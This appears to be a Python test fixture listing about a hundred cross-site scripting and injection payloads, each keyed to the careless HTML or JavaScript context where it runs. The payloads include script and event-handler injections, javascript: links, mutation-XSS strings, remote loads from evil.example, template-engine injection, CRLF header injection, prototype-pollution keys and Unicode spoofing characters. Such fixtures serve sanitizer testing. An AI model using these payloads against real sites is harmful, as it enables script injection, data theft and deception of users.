"""A hundred texts that a careless page would run, fetch, lose its markup to, or show as another text.

Each stands with its sink: `NAIVE` is the markup in which a careless page would write it, and a test proves that there it works.
"""

from dataclasses import dataclass

PWN = "window.__pwned=1"
FAR = "//evil.example/"
TAG = f"<script>{PWN}</script>"
IMG = f"<img src=x onerror={PWN}>"

# How a careless page writes a text, by sink. What follows it is swallowed where the text opens something that it does not close.
NAIVE = {
    "body": "<p>{}</p><p id=after>x</p>",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "bare": "<input value={}>",
    "title": "<title>{}</title>",
    "area": "<textarea>{}</textarea>",
    "comment": "<!-- {} -->",
    "style": "<style>p{color:{}}</style><p>x</p>",
    "script": '<script>var x = "{}";</script>',
    "quote": "<script>var x = '{}';</script>",
    "literal": "<script>var x = `{}`;</script>",
    "line": "<script>// {}\n</script>",
    "json": '<script type="application/json">"{}"</script><p id=after>x</p>',
    "code": "<script>(0,eval)('[\"{}\"]')</script>",
    "handler": "<input autofocus onfocus=\"String('{}')\">",
    "link": '<a href="{}">x</a>',
    "frame": '<iframe src="{}"></iframe>',
    "inner": "<div></div>",  # set by script: innerHTML
    "twice": "<div></div>",  # parsed where it is inert and harmless, then set
    "key": "",  # of an object
    "hides": "",  # nothing runs: it shows as another text, or as none
    "engine": "",  # nothing runs: it needs an engine of templates, which a page may bring
}


@dataclass(frozen=True)
class Payload:
    """A text, and the sink in which it works."""

    text: str
    sink: str


TABLE: dict[str, tuple[str, ...]] = {
    "body": (
        TAG, f"</p>{TAG}", f"<ScRiPt >{PWN}</sCrIpT\t>", f"<script/x>{PWN}</script>", f"<script src={FAR}a.js></script>",
        f"<svg onload={PWN}>", f"<body onload={PWN}>", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        "<iframe src=javascript:parent.__pwned=1></iframe>", f"<object data={FAR}b></object>", f"<embed src={FAR}c>",
        f"<input autofocus onfocus={PWN}>", f"<p tabindex=0 autofocus onfocus={PWN}>x</p>", f"<link rel=stylesheet href={FAR}d.css>",
        f'<meta http-equiv=refresh content="0;url={FAR}e">', f"<base href={FAR}><img src=relative.png>",
        f"<form action={FAR}f><input autofocus onfocus=this.form.submit()></form>", f"<img srcset={FAR}g.png>",
        f"<link rel=preload as=image href={FAR}h.png>", f'<p style="background:url({FAR}i.png)">x</p>',
        f"<style>@import url({FAR}j.css);</style>",
        f"<style>@font-face{{font-family:y;src:url({FAR}k)}}p{{font-family:y}}</style><p>x</p>", f"<table background={FAR}l.png>",
        f"<p style='animation:y 1s' onanimationstart={PWN}>x</p><style>@keyframes y{{}}</style>",
        f"<div><template shadowrootmode=open>{TAG}</template></div>", f'<noscript><p title="</noscript>{IMG}">',
        f"<svg><script>{PWN}</script></svg>", f"<svg><script href={FAR}m.js></script></svg>",
        f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>", f"<svg><image href={FAR}n.png width=9 height=9></svg>",
        f"<math><mtext>{TAG}</mtext></math>", f"<svg><style>@import url({FAR}o.css)</style></svg>",
        '<svg><desc><iframe srcdoc="&lt;script>parent.__pwned=1&lt;/script>"></iframe></desc></svg>',
        "<plaintext>", "<textarea>", "<!--", "<style>", "<template>", "<svg><![CDATA[",
    ),
    "inner": (
        IMG, f'<img/src="x"/onerror={PWN}>', "<img src=x onerror=&#119;indow.__pwned=1>", f"<video src=x onerror={PWN}></video>",
        f"<audio><source src=x onerror={PWN}></audio>", f"<details open ontoggle={PWN}>x</details>", f"<style onload={PWN}></style>",
        f"<svg><foreignObject>{IMG}</foreignObject></svg>", f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>',
        f"<svg><title>{IMG}</title></svg>", f"</p></div></body></html>{IMG}", f"<xmp><p title='</xmp>{IMG}'>",
    ),
    "twice": (f"<form><math><mtext></form><form><mglyph><style></math>{IMG}", f"<math><mtext><table><mglyph><style><math>{IMG}"),
    "double": (f'" onfocus={PWN} autofocus x="', f'">{TAG}', f'"\tonfocus={PWN}\nautofocus\fx="'),
    "single": (f"' onfocus={PWN} autofocus x='", f"'>{TAG}"),
    "bare": (f"x onfocus={PWN} autofocus", f"x>{TAG}"),
    "title": (f"</title>{TAG}",),
    "area": (f"</textarea>{TAG}",),
    "comment": (f"-->{TAG}", f"--!>{TAG}"),
    "style": (f"</style>{TAG}", f"red;background:url({FAR}p.png)", f"red}}p{{background:url({FAR}q.png)"),
    "script": (f"</script>{TAG}", f'";{PWN};"'),
    "quote": (f"';{PWN};'", f"\\x27;</script>{TAG}"),
    "literal": ("${window.__pwned=1}", f"`;{PWN};`"),
    "line": (f"\n{PWN}", f"\u2028{PWN}", f"\u2029{PWN}"),
    "json": ("<!--<script>",),
    "code": (f'"],{PWN},["',),
    "handler": ("&#39;);window.__pwned=1;(&#39;", f"');{PWN};('"),
    "link": (
        f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f"java\tscript:{PWN}", f"java\nscript:{PWN}", f"\x01javascript:{PWN}",
        f"javascript://x%0a{PWN}", "&#106;avascript&colon;window.__pwned=1", f"{FAR}r", "/\\evil.example/s",
    ),
    "frame": ("data:text/html,<img src=http://evil.example/t.png>",),
    "key": ("__proto__", "constructor", "toString"),
    "engine": ("{{constructor.constructor('window.__pwned=1')()}}", "<%= window.__pwned=1 %>", "#{7*7}"),
    "hides": (
        "\u202etxt.exe", "\u2066a\u2069b", "zero\u200bwidth", "\U0001f469\u200d\U0001f4bb", "\ufeffmark", "null\x00byte",
        "\x1b[31mred\x1b[0m", "soft\u00adhyphen", "\U000e0041tag", "line\r\nset-cookie: x=1", "\x7f\x85", "\u061cmark",
    ),
}  # fmt: skip
PAYLOADS = [Payload(text, sink) for sink, texts in TABLE.items() for text in texts]
TEXTS = [p.text for p in PAYLOADS]
ONE_OF_EACH = [texts[0] for texts in TABLE.values()]  # sink
